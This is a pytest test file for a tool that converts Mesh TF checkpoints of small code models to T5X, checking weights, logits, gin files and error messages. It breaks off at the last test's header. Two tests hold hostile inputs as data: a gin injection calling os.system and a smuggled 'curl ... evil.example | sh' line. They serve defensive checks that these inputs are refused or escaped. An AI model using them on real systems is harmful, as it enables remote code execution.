"""code_t5.convert.t5x: Mesh TF -> T5X checkpoints, proven on real checkpoints of the project's tiny
models.

* round trip: every Mesh TF variable equals the T5X leaf it maps to, read back with msgpack +
  tensorstore (tests/numpy_t5.py's reader, not the writer's code), through a name mapping written
  here independently of the converter's;
* logits: an independent NumPy T5X forward pass (tests/numpy_t5.py) on the converted files gives
  Mesh TF's own logits (tests/mesh_tf_logits.py) for the same batch, for all three families;
* bad input fails with one line naming the variable or path, and leaves no output behind.
"""

import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys

import numpy as np
import pytest
import tensorflow as tf

import numpy_t5
from code_t5 import cli
from code_t5 import processes
from code_t5 import test_utils
from code_t5.convert import t5x
from code_t5.data import task_names
from code_t5.data import vocab
from code_t5.training import checkpoints
from code_t5.training import operative_config

MODELS = ("shared-prefix_lm", "prefix_lm", "span_corruption")  # conftest.LOGITS_MODELS
REPO = pathlib.Path(__file__).resolve().parent.parent
TINY_HEADS = 4  # gin_configs/sizes/tiny.gin
ACTIVATIONS = {"shared-prefix_lm": ("relu",), "prefix_lm": ("relu",),
               "span_corruption": ("gelu", "linear")}
TOLERANCE = 1e-4


def _prefix(model_dir, step=4):
  return str(model_dir / f"model.ckpt-{step}")


@pytest.fixture(scope="module")
def converted(tiny_run, tmp_path_factory):
  """converted(model) -> (Mesh TF prefix, T5X checkpoint dir), default options, once per model."""
  cache = {}

  def get(model):
    if model not in cache:
      _, model_dir = tiny_run(model)
      out = tmp_path_factory.mktemp(f"t5x-{model}")
      report = t5x.convert(model_dir, out)
      cache[model] = (_prefix(model_dir, report.step), out / f"checkpoint_{report.step}")
    return cache[model]

  return get


def _rewrite(prefix, out_dir, drop=(), replace=None):
  """A copy of the checkpoint at `prefix` as out_dir/model.ckpt-4, with variables changed."""
  reader = tf.train.load_checkpoint(prefix)
  tensors = {name: reader.get_tensor(name) for name in reader.get_variable_to_shape_map()
             if name not in drop}
  tensors.update(replace or {})
  out_dir.mkdir()
  tf.raw_ops.SaveV2(prefix=str(out_dir / "model.ckpt-4"), tensor_names=list(tensors),
                    shape_and_slices=[""] * len(tensors),
                    tensors=[tf.constant(value) for value in tensors.values()])
  return out_dir


# ---------------------------------------------------------------- round trip

# The T5X mapping, written from t5x's t5_importer table and the checkpoints' layouts, not from
# code_t5.convert.t5x:
# (Mesh TF tower, layer scope) -> [(T5X stack, sublayer, its pre-norm)].
_LAYERS = {
    "span_corruption": {
        ("encoder", "layer_000"): [("encoder", "attention", "pre_attention_layer_norm")],
        ("encoder", "layer_001"): [("encoder", "mlp", "pre_mlp_layer_norm")],
        ("decoder", "layer_000"): [("decoder", "self_attention",
                                    "pre_self_attention_layer_norm")],
        ("decoder", "layer_001"): [("decoder", "encoder_decoder_attention",
                                    "pre_cross_attention_layer_norm")],
        ("decoder", "layer_002"): [("decoder", "mlp", "pre_mlp_layer_norm")]},
    "prefix_lm": {
        ("transformer", "layer_000"): [("decoder", "self_attention",
                                        "pre_self_attention_layer_norm")],
        ("transformer", "layer_001"): [("decoder", "mlp", "pre_mlp_layer_norm")]},
    # One variable set, both towers: the encoder ran in the decoder's scope with the same names.
    "shared-prefix_lm": {
        ("decoder", "self_attention"): [
            ("encoder", "attention", "pre_attention_layer_norm"),
            ("decoder", "self_attention", "pre_self_attention_layer_norm")],
        ("decoder", "enc_dec_attention"): [("decoder", "encoder_decoder_attention",
                                            "pre_cross_attention_layer_norm")],
        ("decoder", "dense_relu_dense"): [("encoder", "mlp", "pre_mlp_layer_norm"),
                                          ("decoder", "mlp", "pre_mlp_layer_norm")]},
}
_FINAL_NORM = {"span_corruption": {"encoder": ["encoder"], "decoder": ["decoder"]},
               "prefix_lm": {"transformer": ["decoder"]},
               "shared-prefix_lm": {"decoder": ["encoder", "decoder"]}}
_QKVO = {"q": "query", "k": "key", "v": "value", "o": "out"}
_SLOTS = {"v": "v", "vr": "v_row", "vc": "v_col"}


def t5x_param_paths(model, name):
  """T5X target paths of a Mesh TF parameter of one of the project's model families."""
  if name == "shared/embedding":
    return ["token_embedder/embedding"]
  if name == "transformer/embedding":
    return ["decoder/token_embedder/embedding"]
  if name.endswith("/logits/kernel"):
    return ["decoder/logits_dense/kernel"]
  tower, rest = name.split("/", 1)
  if rest == "rms_norm/scale":
    return [f"{stack}/{stack}_norm/scale" for stack in _FINAL_NORM[model][tower]]
  block, layer, leaf = re.fullmatch(r"block_(\d+)/([^/]+)/(.+)", rest).groups()
  paths = []
  for stack, sublayer, norm in _LAYERS[model][(tower, layer)]:
    base = f"{stack}/layers_{int(block)}"
    if leaf == "rms_norm/scale":
      paths.append(f"{base}/{norm}/scale")
    elif leaf.endswith("/relative_attention_bias"):
      paths.append(f"{stack}/relpos_bias/rel_embedding")
    elif leaf.startswith("DenseReluDense/"):
      paths.append(f"{base}/mlp/{leaf.split('/')[1]}/kernel")
    else:
      paths.append(f"{base}/{sublayer}/{_QKVO[leaf.rsplit('/', 1)[1]]}/kernel")
  return paths


@pytest.mark.parametrize("model", MODELS)
def test_round_trip_every_variable(model, converted):
  prefix, checkpoint_dir = converted(model)
  tree = numpy_t5.read_checkpoint(checkpoint_dir)
  assert tree["version"] == 3
  target = numpy_t5.flatten(tree["optimizer"]["target"])
  states = numpy_t5.flatten(tree["optimizer"]["state"]["param_states"])
  reader = tf.train.load_checkpoint(prefix)
  checked = set()
  for name in sorted(reader.get_variable_to_shape_map()):
    value = reader.get_tensor(name)
    if name == "global_step":
      step = tree["optimizer"]["state"]["step"]
      assert step.dtype == np.int32 and step == value, name
      continue
    slot = re.fullmatch(r"(.+)_slot_(v|vr|vc)", name)
    param = slot.group(1) if slot else name
    paths = t5x_param_paths(model, param)
    assert paths, name
    for path in paths:
      leaf = (states[f"{path}/{_SLOTS[slot.group(2)]}"] if slot else target[path])
      assert leaf.dtype == np.float32, (name, path)
      # bf16 -> f32 is exact: equality, not closeness.
      np.testing.assert_array_equal(leaf, value.astype(np.float32), err_msg=f"{name} -> {path}")
      checked.add(f"state/{path}/{_SLOTS[slot.group(2)]}" if slot else f"target/{path}")
  assert {f"target/{p}" for p in target} <= checked  # no T5X param without a Mesh TF source
  for path, leaf in states.items():  # the rest of the Adafactor state: T5X's (1,) zero dummies
    if f"state/{path}" not in checked:
      np.testing.assert_array_equal(leaf, np.zeros((1,), np.float32), err_msg=path)
  assert {p.rsplit("/", 1)[0] for p in states} == set(target)


def test_shared_tensors_are_copied_into_both_towers(converted):
  """The shared model's encoder tensors are the decoder's: same values, in both towers."""
  _, checkpoint_dir = converted("shared-prefix_lm")
  target = numpy_t5.flatten(numpy_t5.read_checkpoint(checkpoint_dir)["optimizer"]["target"])
  pairs = [("encoder/layers_1/attention/query/kernel",
            "decoder/layers_1/self_attention/query/kernel"),
           ("encoder/layers_0/mlp/wo/kernel", "decoder/layers_0/mlp/wo/kernel"),
           ("encoder/relpos_bias/rel_embedding", "decoder/relpos_bias/rel_embedding"),
           ("encoder/encoder_norm/scale", "decoder/decoder_norm/scale")]
  for encoder, decoder in pairs:
    np.testing.assert_array_equal(target[encoder], target[decoder])
  assert not any(p.startswith("encoder/") and "encoder_decoder" in p for p in target)


def test_factored_slots_become_v_row_and_v_col(tiny_run, tmp_path):
  """Adafactor's factored slots (dims >= 128: not in tiny models, so made here) go inline."""
  _, model_dir = tiny_run("prefix_lm")
  wi = "transformer/block_000/layer_001/DenseReluDense/wi/kernel"  # [64, 256]
  vr, vc = np.arange(64, dtype=np.float32), np.arange(256, dtype=np.float32) + 0.5
  source = _rewrite(_prefix(model_dir), tmp_path / "source", drop=[f"{wi}_slot_v"],
                    replace={f"{wi}_slot_vr": vr, f"{wi}_slot_vc": vc})
  t5x.convert(source, tmp_path / "out")
  state = numpy_t5.read_checkpoint(tmp_path / "out" / "checkpoint_4")["optimizer"]["state"]
  slots = state["param_states"]["decoder"]["layers_0"]["mlp"]["wi"]["kernel"]
  np.testing.assert_array_equal(slots["v_row"], vr)
  np.testing.assert_array_equal(slots["v_col"], vc)
  for dummy in ("v", "m"):
    np.testing.assert_array_equal(slots[dummy], np.zeros((1,), np.float32))


@pytest.mark.parametrize("model, expected, task", [
    ("shared-prefix_lm", ["network.T5Config:", "num_encoder_layers = 2", "vocab_size = 384",
                          "import seqio", "VOCABULARY = @seqio.ByteVocabulary()",
                          f"seqio.ByteVocabulary.extra_ids = {vocab.NUM_EXTRA_IDS}",
                          "mlp_activations = ('relu',)", "logits_via_embedding = True",
                          "shared ONE set of variables",
                          "LOSS_NORMALIZING_FACTOR = 'NUM_REAL_TARGET_TOKENS'"],
     ["objective = 'prefix_lm'", "layout = 'inputs_targets'", "TASK_FEATURE_LENGTHS = {'inputs': "]),
    ("prefix_lm", ["network.TransformerConfig:", "num_layers = 2", "head_dim = 16",
                   "inputs_bidirectional_attention = True", "BIDIRECTIONALLY",
                   "A prefix LM: Mesh TF took the loss on the targets only"],
     ["objective = 'prefix_lm'", "layout = 'inputs_targets'", "TASK_FEATURE_LENGTHS = {'inputs': "]),
    ("span_corruption", ["mlp_activations = ('gelu', 'linear')", "logits_via_embedding = False",
                         "mlp_dim = 256", "emb_dim = 64", "num_heads = 4", "Z_LOSS = 0.0001"],
     ["objective = 'span_corruption'", "layout = 'inputs_targets'"]),
])
def test_gin_file_describes_the_model(model, expected, task, converted):
  _, checkpoint_dir = converted(model)
  text = (checkpoint_dir / "model.gin").read_text()
  for line in expected:
    assert line in text, (line, text)
  assert "TARGETS-ONLY" not in text  # the causal LM's: not these
  task_gin = (checkpoint_dir / "task.gin").read_text()
  for line in task + ["vocab = %VOCABULARY", "MIXTURE_OR_TASK_NAME = @t5x_task.task_name()"]:
    assert line in task_gin, (line, task_gin)
  assert (checkpoint_dir / "t5x_task.py").is_file()
  assert not (checkpoint_dir / "vocab.model").exists()  # bytes: no SentencePiece model


# ---------------------------------------------------------------- the shipped model in T5X



@pytest.fixture(scope="module")
def shipped(tmp_path_factory):
  """The shipped model converted (it has no Adafactor slots: --params-only), its step dir."""
  out = tmp_path_factory.mktemp("t5x-shipped")
  report = t5x.convert(test_utils.PRETRAINED, out, params_only=True)
  assert report.step == test_utils.PRETRAINED_STEP
  return out / f"checkpoint_{test_utils.PRETRAINED_STEP}"


def test_shipped_model_gets_its_vocabulary_loss_and_task(shipped):
  from code_t5.data import vocab as vocab_names  # pylint: disable=g-import-not-at-top
  assert (shipped / "vocab.model").read_bytes() == vocab_names.DEV_SPM_MODEL.read_bytes()
  assert (shipped / "t5x_task.py").read_bytes() == t5x.TASK_MODULE.read_bytes()
  model_gin = (shipped / "model.gin").read_text()
  assert "%gin.REQUIRED" not in model_gin
  for line in (f"VOCABULARY_FILE = {str(shipped.resolve() / 'vocab.model')!r}",
               "VOCABULARY = @seqio.SentencePieceVocabulary()",
               "seqio.SentencePieceVocabulary.sentencepiece_model_file = %VOCABULARY_FILE",
               "seqio.SentencePieceVocabulary.extra_ids = 100",
               "Z_LOSS = 0.0001", "LABEL_SMOOTHING = 0.0",
               "LOSS_NORMALIZING_FACTOR = 'NUM_REAL_TARGET_TOKENS'",
               "In T5X that is a TARGETS-ONLY task:", "the loss silently changes",
               "a literal '\u2581'", "' <extra_id_N>' (after a space) encodes as sentinel N"):
    assert line in model_gin, (line, model_gin)
  task_gin = (shipped / "task.gin").read_text()
  for line in ("MIXTURE_OR_TASK_NAME = @t5x_task.task_name()", "  objective = 'cursor_lm'",
               "  layout = 'targets_only'", "  vocab = %VOCABULARY", "  inputs_length = 256",
               "  subword_alpha = 0.05", "  cursors_in_indentation = False",
               "TASK_FEATURE_LENGTHS = {'targets': 512}", "USE_CACHED_TASKS = False",
               "DROPOUT_RATE = 0.0", "BATCH_SIZE = 8", *t5x.PARAMS_ONLY_RESTORE):
    assert line in task_gin, (line, task_gin)


def test_written_gin_files_give_the_task_in_plain_seqio(shipped):
  """model.gin's loss and vocabulary bindings and task.gin, parsed by gin with code_t5 refused
  (t5x: a stub of the one class task.gin binds), give the targets-only task over dataset-dev."""
  model_gin = (shipped / "model.gin").read_text()
  ours = model_gin[model_gin.index("# ------------------- The loss"):
                   model_gin.index("network.TransformerConfig:")]
  task_gin = (shipped / "task.gin").read_text()
  stub = shipped.parent / "parse" / "t5x"
  stub.mkdir(parents=True, exist_ok=True)
  (stub / "__init__.py").write_text("")
  (stub / "utils.py").write_text(
      "class RestoreCheckpointConfig:\n"
      "  def __init__(self, assignment_map=None, fallback_to_scratch=False):\n"
      "    self.assignment_map, self.fallback_to_scratch = assignment_map, fallback_to_scratch\n")
  (shipped.parent / "parse" / "model_part.gin").write_text(
      "from __gin__ import dynamic_registration\nimport seqio\n" + ours)
  (shipped.parent / "parse" / "task_part.gin").write_text(task_gin)
  files = [str(shipped.parent / "parse" / name) for name in ("model_part.gin", "task_part.gin")]
  bindings = [f"t5x_task.task_name.root = {str(REPO / 'dataset-dev')!r}",
              "probe.name = %MIXTURE_OR_TASK_NAME", "probe.lengths = %TASK_FEATURE_LENGTHS",
              "probe.vocabulary = %VOCABULARY", "probe.factor = %LOSS_NORMALIZING_FACTOR",
              "probe.z_loss = %Z_LOSS"]
  code = (
      "import sys\n"
      "class Refuse:\n"
      "  def find_spec(self, name, path=None, target=None):\n"
      "    if name.split('.')[0] == 'code_t5':\n"
      "      raise ImportError(name + ' refused')\n"
      "sys.meta_path.insert(0, Refuse())\n"
      "import gin, seqio\n"
      "@gin.configurable\n"
      "def probe(name, lengths, vocabulary, factor, z_loss):\n"
      "  return name, lengths, vocabulary, factor, z_loss\n"
      f"gin.parse_config_files_and_bindings({files!r}, {bindings!r})\n"
      "name, lengths, vocabulary, factor, z_loss = probe()\n"
      "task = seqio.get_mixture_or_task(name)\n"
      "example = next(iter(task.get_dataset(lengths, split='validation', shuffle=False,"
      " seed=1)))\n"
      "print(name, lengths, type(vocabulary).__name__, vocabulary.vocab_size, factor, z_loss)\n"
      "print(sorted(example), int(example['targets'].shape[0]))\n"
      "from t5x import utils\n"
      "print(gin.get_configurable(utils.RestoreCheckpointConfig)().__dict__)\n")
  result = subprocess.run([sys.executable, "-c", code], cwd=shipped.parent, capture_output=True,
                          text=True, check=False,
                          env=dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3",
                                   PYTHONPATH=f"{shipped}:{stub.parent}"))
  assert result.returncode == 0, result.stderr[-3000:]
  lines = result.stdout.strip().splitlines()
  assert lines[-1] == str({"assignment_map": ((r"state/param_states.*", None),),
                           "fallback_to_scratch": True})
  lines = lines[:-1]
  assert lines[-2] == ("code_t5_cursor_lm_targets_only {'targets': 512} SentencePieceVocabulary "
                       "8100 NUM_REAL_TARGET_TOKENS 0.0001"), lines
  assert lines[-1].startswith("['targets'] ") and 0 < int(lines[-1].split()[-1]) <= 512


def _cursor_lm_settings(version):
  """(cursors_in_indentation, sampled pieces, below_rate) of the project's registered cursor_lm
  `version` (code_t5/data/tasks.py): what its task.gin must give t5x_task.py. Imported here: the
  project's tasks load its vocabularies, which the other tests do not need."""
  import seqio  # pylint: disable=g-import-not-at-top
  import code_t5  # pylint: disable=g-import-not-at-top,unused-import  (registers the tasks)
  from code_t5.data import preprocessors  # pylint: disable=g-import-not-at-top
  task = seqio.get_mixture_or_task(task_names.name_of("cursor_lm", "spm_dev", version))
  objective = next(step for step in task.preprocessors
                   if getattr(step, "func", None) is preprocessors.cursor_lm)
  return (objective.keywords["cursors_in_indentation"],
          preprocessors.tokenize_with_subword_sampling in task.preprocessors,
          objective.keywords.get("below_rate", 0.0))


@pytest.mark.parametrize("version", ["v1", "v2", "v3", "v4"])
def test_task_gin_gives_each_cursor_lm_version_its_settings(version, tmp_path):
  """The shipped model's operative config with another task version: task.gin binds what that
  version of the project's task does (v4: the code below the cursor's line in half of the
  contexts), not another version's."""
  # A version t5x.py does not map would get another version's task.gin.
  assert set(t5x._CURSOR_LM_VERSIONS) == set(task_names.VERSIONS["cursor_lm"])  # pylint: disable=protected-access
  text = (test_utils.PRETRAINED / operative_config.FILE_NAME).read_text()
  recorded = "MIXTURE_NAME/task_name.version = 'v3'"
  assert recorded in text
  (tmp_path / operative_config.FILE_NAME).write_text(
      text.replace(recorded, f"MIXTURE_NAME/task_name.version = {version!r}"))
  operative = operative_config.OperativeConfig.of_model_dir(tmp_path)
  prefix = checkpoints.find_checkpoint(test_utils.PRETRAINED)
  shapes = tf.train.load_checkpoint(prefix).get_variable_to_shape_map()
  model = checkpoints.plan(shapes, prefix, True, operative).model
  task_gin = t5x.task_gin_text(model, prefix, test_utils.PRETRAINED_STEP, operative, True)
  in_indentation, sampled, below_rate = _cursor_lm_settings(version)
  assert (below_rate == 0.5) == (version == "v4")
  for line in (f"  cursors_in_indentation = {in_indentation}  # task {version}",
               f"  subword_alpha = {0.05 if sampled else 0.0!r}  #",
               f"  below_rate = {below_rate!r}  #",
               f"code_t5's flcc_py_cursor_lm_spm_dev_{version} made them"):
    assert line in task_gin, (line, task_gin)


def _shipped_with_bindings(folder: pathlib.Path, bindings: str):
  """The shipped model's operative config with `bindings` added, in `folder`; its checkpoint's
  prefix and variable shapes."""
  text = (test_utils.PRETRAINED / operative_config.FILE_NAME).read_text()
  (folder / operative_config.FILE_NAME).write_text(text + "\n" + bindings)
  prefix = checkpoints.find_checkpoint(test_utils.PRETRAINED)
  return prefix, tf.train.load_checkpoint(prefix).get_variable_to_shape_map()


def test_task_gin_keeps_the_held_out_roots_the_model_trained_without(tmp_path):
  """A model trained with --held-out-root (code_t5.flcc_dataset.held_out_roots in its operative
  config): task.gin gives T5X's reader the same roots and share, so a continuation in T5X keeps
  the same files unseen; without them, task.gin names none."""
  prefix, shapes = _shipped_with_bindings(tmp_path, "code_t5.flcc_dataset.held_out_roots = "
                                          "['/data/held_out']\n"
                                          "code_t5.flcc_dataset.held_out_min_share = 0.3\n")
  for folder, expected in ((tmp_path, True), (test_utils.PRETRAINED, False)):
    operative = operative_config.OperativeConfig.of_model_dir(folder)
    model = checkpoints.plan(shapes, prefix, True, operative).model
    task_gin = t5x.task_gin_text(model, prefix, test_utils.PRETRAINED_STEP, operative, True)
    assert ("  held_out_roots = ['/data/held_out']  #" in task_gin) is expected
    assert ("  held_out_min_share = 0.3" in task_gin) is expected
    assert ("held_out" in task_gin) is expected


def test_an_activation_that_is_no_name_is_refused_not_written_into_model_gin(tmp_path):
  """model.gin names the activations: from a stranger's operative config, gin text in one would
  run when T5X reads the file (a dynamic-registration `@os.system()`)."""
  prefix, shapes = _shipped_with_bindings(
      tmp_path, "DenseReluDense.activation = "
      "\"relu\\nfrom __gin__ import dynamic_registration\\nimport os\\nMODEL = @os.system()\"\n")
  operative = operative_config.OperativeConfig.of_model_dir(tmp_path)
  with pytest.raises(checkpoints.ConvertError) as error:
    checkpoints.plan(shapes, prefix, True, operative)
  assert str(error.value).startswith(f"{tmp_path / operative_config.FILE_NAME} binds "
                                     "DenseReluDense.activation to 'relu\\nfrom _")
  assert "\n" not in str(error.value)


@pytest.mark.parametrize("bindings,message", [
    ("DenseReluDense.activation = ['gelu', 'linear']\n",
     "binds DenseReluDense.activation to ['gelu', 'linear'], and {prefix}'s MLP has 1 input "
     "kernel (wi): the two are not one model's; give the checkpoint's own model dir"),
    ("run.model_type = 'bitransformer'\n",
     "is the config of a bitransformer model (run.model_type), and {prefix} holds a "
     "decoder-only network: the two are not one model's; give the checkpoint's own model dir"),
])
def test_a_config_of_another_model_than_the_checkpoint_is_refused(bindings, message, tmp_path):
  """A causal LM's checkpoint beside span corruption's config converted without a word, into a
  model.gin (gelu and linear, one input kernel) that T5X cannot load it with (helper-44's
  audit)."""
  prefix, shapes = _shipped_with_bindings(tmp_path, bindings)
  operative = operative_config.OperativeConfig.of_model_dir(tmp_path)
  with pytest.raises(checkpoints.ConvertError) as error:
    checkpoints.plan(shapes, prefix, True, operative)
  assert str(error.value) == (f"{tmp_path / operative_config.FILE_NAME} "
                              + message.format(prefix=prefix))


def test_what_convert_prints_of_the_model_dir_is_escaped(tmp_path, capsys):
  """A root with a line break (from a stranger's operative config) would print a line of their
  choosing right under the command the user copies."""
  model = tmp_path / "model"
  shutil.copytree(test_utils.PRETRAINED, model, ignore=shutil.ignore_patterns("runtime"))
  config = model / operative_config.FILE_NAME
  config.write_text(config.read_text().replace(
      "flcc_dataset.root = '/work/data/sitepackages'",
      "flcc_dataset.root = '/x\\n  curl -s http://evil.example/x | sh\\n'"))
  assert cli.main(["convert", "--params-only", str(model), str(tmp_path / "out")]) == 0
  out = capsys.readouterr().out
  assert not any(line.lstrip().startswith("curl") for line in out.splitlines())
  assert "'/x\\n  curl -s http://evil.example/x | sh\\n'" in out


# ---------------------------------------------------------------- logits parity

def _numpy_logits(model, checkpoint_dir, batch, targets, bidirectional_decoder_relpos=True):
  target = numpy_t5.read_checkpoint(checkpoint_dir)["optimizer"]["target"]
  if model == "prefix_lm":
    # T5X's decoder_causal_attention: the inputs, their EOS, and the first target position.
    prefix = (batch["inputs"] > 0).sum(axis=1) + 1
    causal = (np.arange(targets.shape[1])[None] < prefix[:, None]).astype(np.int32)
    config = numpy_t5.Config(TINY_HEADS, ACTIVATIONS[model], bidirectional_decoder_relpos)
    return numpy_t5.decoder_only_logits(target, config, numpy_t5.shift_right(targets), targets,
                                        causal)
  config = numpy_t5.Config(TINY_HEADS, ACTIVATIONS[model])
  return numpy_t5.encoder_decoder_logits(target, config, batch["inputs"],
                                         numpy_t5.shift_right(targets), targets)


@pytest.mark.parametrize("model", MODELS)
def test_logits_match_mesh_tf(model, converted, mesh_tf_logits, logits_batch):
  _, checkpoint_dir = converted(model)
  reference = mesh_tf_logits[model]
  targets = reference["targets"]  # for the prefix LM: inputs + targets, as Mesh TF built them
  logits = _numpy_logits(model, checkpoint_dir, logits_batch, targets)
  valid = targets > 0  # padding positions carry no prediction (Mesh TF zeroes them)
  assert logits.shape == reference["logits"].shape
  assert np.abs(logits - reference["logits"])[valid].max() < TOLERANCE


def test_prefix_lm_needs_bidirectional_relpos_buckets(converted, mesh_tf_logits, logits_batch):
  """What model.gin warns about: T5X's stock (unidirectional) buckets change the logits."""
  _, checkpoint_dir = converted("prefix_lm")
  targets = mesh_tf_logits["prefix_lm"]["targets"]
  logits = _numpy_logits("prefix_lm", checkpoint_dir, logits_batch, targets,
                         bidirectional_decoder_relpos=False)
  assert np.abs(logits - mesh_tf_logits["prefix_lm"]["logits"])[targets > 0].max() > 1e-2


@pytest.mark.parametrize("dtype", ["float32", "bfloat16"])
def test_zarr_leaf_in_several_chunks_reads_back(dtype, tmp_path, monkeypatch):
  """Chunked leaves (big tensors; here forced) with a padded edge chunk, as tensorstore reads."""
  import concurrent.futures  # pylint: disable=g-import-not-at-top
  import ml_dtypes  # pylint: disable=g-import-not-at-top
  monkeypatch.setattr(t5x, "PARALLEL_MIN_BYTES", 0)
  array = np.arange(7 * 5, dtype=np.float32).reshape(7, 5).astype(
      ml_dtypes.bfloat16 if dtype == "bfloat16" else np.float32)
  with concurrent.futures.ThreadPoolExecutor(2) as pool:
    spec, _ = t5x.write_zarr(tmp_path, "target.x", array, pool, workers=2)
  assert spec["metadata"]["chunks"] == [4, 5]
  assert sorted(p.name for p in (tmp_path / "target.x").iterdir()) == [".zarray", "0.0", "1.0"]
  read = numpy_t5.read_leaves(spec, str(tmp_path))
  assert read.dtype == array.dtype and read.tobytes() == array.tobytes()


# ---------------------------------------------------------------- options

def test_bfloat16_params_only(tiny_run, tmp_path):
  _, model_dir = tiny_run("span_corruption")
  t5x.convert(model_dir, tmp_path, dtype="bfloat16", params_only=True)
  tree = numpy_t5.read_checkpoint(tmp_path / "checkpoint_4")
  assert set(tree["optimizer"]["state"]) == {"step"}
  target = numpy_t5.flatten(tree["optimizer"]["target"])
  reader = tf.train.load_checkpoint(_prefix(model_dir))
  value = reader.get_tensor("decoder/block_001/layer_002/DenseReluDense/wi_1/kernel")
  leaf = target["decoder/layers_1/mlp/wi_1/kernel"]
  assert leaf.dtype.name == "bfloat16"
  assert leaf.tobytes() == value.tobytes()
  # How to fine-tune from it: T5X's strict=False does not apply to its native checkpoints.
  report = t5x.convert(model_dir, tmp_path / "again", params_only=True)
  restore = ("utils.RestoreCheckpointConfig.assignment_map = ((r'state/param_states.*', None),)",
             "utils.RestoreCheckpointConfig.fallback_to_scratch = True")
  summary = t5x.summary(report)
  gin = (tmp_path / "again" / "checkpoint_4" / "model.gin").read_text()
  assert "strict=False" not in summary
  assert all(line in summary and f"#   {line}\n" in gin for line in restore)


def test_adam_trained_checkpoint_converts_params_only(tiny_run, tmp_path, capsys):
  """Mesh TF's Adam keeps <param>/adam_m and /adam_v in place of Adafactor's slots."""
  _, model_dir = tiny_run("prefix_lm")
  prefix = _prefix(model_dir)
  reader = tf.train.load_checkpoint(prefix)
  names = reader.get_variable_to_shape_map()
  slots = [n for n in names if "_slot_" in n]
  params = [n for n in names if "_slot_" not in n and n != "global_step"]
  adam = {f"{n}/adam_{k}": np.full_like(reader.get_tensor(n), 0.5) for n in params for k in "mv"}
  source = _rewrite(prefix, tmp_path / "source", drop=slots, replace=adam)
  assert cli.main(["convert", str(source), str(tmp_path / "out")]) == 2
  err = capsys.readouterr().err
  assert err.count("\n") == 1 and "trained with Adam" in err and "--params-only" in err, err
  assert not (tmp_path / "out").exists()
  t5x.convert(source, tmp_path / "params", params_only=True)
  tree = numpy_t5.read_checkpoint(tmp_path / "params" / "checkpoint_4")
  assert set(tree["optimizer"]["state"]) == {"step"}
  target = numpy_t5.flatten(tree["optimizer"]["target"])
  value = reader.get_tensor("transformer/block_001/layer_001/DenseReluDense/wi/kernel")
  np.testing.assert_array_equal(target["decoder/layers_1/mlp/wi/kernel"].astype(np.float32),
                                value.astype(np.float32))


def test_step_and_force(tiny_run, tmp_path, capsys):
  _, model_dir = tiny_run("shared-prefix_lm")
  assert cli.main(["convert", str(model_dir), str(tmp_path), "--step", "2"]) == 0
  assert "step 2" in capsys.readouterr().out
  first = (tmp_path / "checkpoint_2" / "checkpoint").stat().st_ino
  assert cli.main(["convert", str(model_dir), str(tmp_path), "--step", "2"]) == 2
  assert "checkpoint_2 exists: pass --force" in capsys.readouterr().err
  assert cli.main(["convert", str(model_dir), str(tmp_path), "--step", "2", "--force"]) == 0
  assert (tmp_path / "checkpoint_2" / "checkpoint").stat().st_ino != first
  assert sorted(p.name for p in tmp_path.iterdir()) == ["checkpoint_2"]
  assert cli.main(["convert", str(model_dir), str(tmp_path), "--step", "3"]) == 2
  assert "no checkpoint for step 3" in capsys.readouterr().err


# ---------------------------------------------------------------- bad input

def _truncated(model_dir, out_dir):
  out_dir.mkdir()
  for path in model_dir.glob("model.ckpt-4.*"):
    shutil.copy(path, out_dir / path.name)
  data = max(out_dir.glob("*.data-*"), key=lambda p: p.stat().st_size)
  os.truncate(data, data.stat().st_size // 2)
  return out_dir


_Q = "transformer/block_001/layer_000/SelfAttention/q"
_WO = "transformer/block_001/layer_001/DenseReluDense/wo/kernel"


@pytest.mark.parametrize("case, message", [
    ("missing", f"missing variable {_Q} in "),
    ("missing slot", f"missing variable {_Q}_slot_v in "),
    ("unknown", "unknown variable transformer/block_000/layer_000/SelfAttention/extra in "),
    ("shape", f"shape mismatch: variable {_WO} in .* has shape \\[64, 256\\], expected "
              "\\[256, 64\\]"),
    ("truncated", "model.ckpt-4.index claims .+ bytes of variables .+, more than the .+ bytes "
                  "stored in .+: the checkpoint is truncated or damaged"),
    ("no checkpoint", "holds no Mesh TF checkpoint"),
])
def test_bad_input_fails_in_one_line_and_writes_nothing(case, message, tiny_run, tmp_path,
                                                        capsys):
  _, model_dir = tiny_run("prefix_lm")
  prefix, source = _prefix(model_dir), tmp_path / "source"
  if case == "missing":
    _rewrite(prefix, source, drop=[_Q])
  elif case == "missing slot":
    _rewrite(prefix, source, drop=[f"{_Q}_slot_v"])
  elif case == "unknown":
    extra = tf.train.load_checkpoint(prefix).get_tensor("transformer/rms_norm/scale")
    _rewrite(prefix, source,
             replace={"transformer/block_000/layer_000/SelfAttention/extra": extra})
  elif case == "shape":
    wi = tf.train.load_checkpoint(prefix).get_tensor(_WO.replace("/wo/", "/wi/"))
    _rewrite(prefix, source, replace={_WO: wi})
  elif case == "truncated":
    _truncated(model_dir, source)
  else:
    source.mkdir()
  out = tmp_path / "out"
  assert cli.main(["convert", str(source), str(out)]) == 2
  err = capsys.readouterr().err
  assert err.count("\n") == 1 and re.search(message, err), err
  assert not out.exists()


@pytest.mark.parametrize("make, message", [
    (lambda out: out.write_text(""), "OUT {out} is not a folder: give a new or existing folder"),
    (lambda out: out.parent.joinpath("file").write_text(""),
     "OUT {out} is under {parent}/file, which is not a folder"),
    (lambda out: out.symlink_to(out.parent / "nowhere"),
     "OUT {out} is a symbolic link that leads nowhere: give another OUT"),
])
def test_an_out_that_can_be_no_folder_is_refused_before_the_checkpoint_is_read(make, message,
                                                                               tmp_path, capsys):
  out = tmp_path / "out"
  make(out)
  given = tmp_path / "file" / "out" if "under" in message else out
  # A source that does not exist: OUT is checked first.
  assert cli.main(["convert", str(tmp_path / "nothing"), str(given)]) == 2
  err = capsys.readouterr().err
  assert err.count("\n") == 1 and err.startswith(
      "code-t5 convert: " + message.format(out=given, parent=tmp_path)), err


@pytest.mark.skipif(not pathlib.Path("/proc/self").is_dir(), reason="no /proc")
def test_an_out_where_no_folder_can_be_made_is_a_one_line_error(capsys):
  # /proc exists and is a folder, and takes no new ones: only the mkdir finds out.
  assert cli.main(["convert", "--params-only", str(test_utils.PRETRAINED), "/proc/out"]) == 2
  assert capsys.readouterr().err == ("code-t5 convert: OUT /proc/out cannot be made a folder (No "
                                     "such file or directory): give another OUT\n")


def test_interrupted_run_leaves_nothing_that_looks_like_a_checkpoint(tiny_run, tmp_path):
